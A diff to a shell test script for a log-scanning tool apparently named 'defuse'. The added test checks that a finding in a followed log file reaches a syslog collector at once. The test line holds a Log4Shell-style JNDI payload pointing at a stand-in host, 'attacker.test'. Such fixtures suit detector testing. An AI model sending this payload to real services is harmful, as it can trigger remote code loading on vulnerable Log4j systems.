@@ -69,6 +69,20 @@ for line in open(f"{t}/webhook.out"):
 assert len(hosts) == 3 * n, hosts
 PY
 
+# --follow: a finding appended to a followed file reaches the collectors at
+# once (a live pipeline cannot wait for more findings to fill a batch)
+: >"$T/live.log"
+: >"$T/sysudp.out"
+"$DEFUSE" logs -q -F --syslog="$SU" "$T/live.log" >/dev/null 2>"$T/err-live" &
+LIVE=$!
+PIDS+=($LIVE)
+sleep 0.5
+echo '10.9.9.9 - - [10/Dec/2021:13:00:00 +0000] "GET /?q=${jndi:ldap://live1.attacker.test/x} HTTP/1.1" 200 1' >>"$T/live.log"
+if wait_count "$T/sysudp.out" 'live1' 1; then ok "--follow: an appended finding reaches the collector at once"
+else fail "--follow: the finding of an appended line did not reach the collector within 5 s"; fi
+kill -TERM $LIVE; wait $LIVE
+expect_rc 1 $? "--follow with --syslog: SIGTERM ends the run with the findings' status"
+
 # a collector that is down: the findings are lost, and said so (exit 2)
 read -r DEAD < <($PEERS freeports 1)
 "$DEFUSE" logs -q --syslog=tcp://127.0.0.1:$DEAD "$T/access.log" >"$T/out2" 2>"$T/err2"
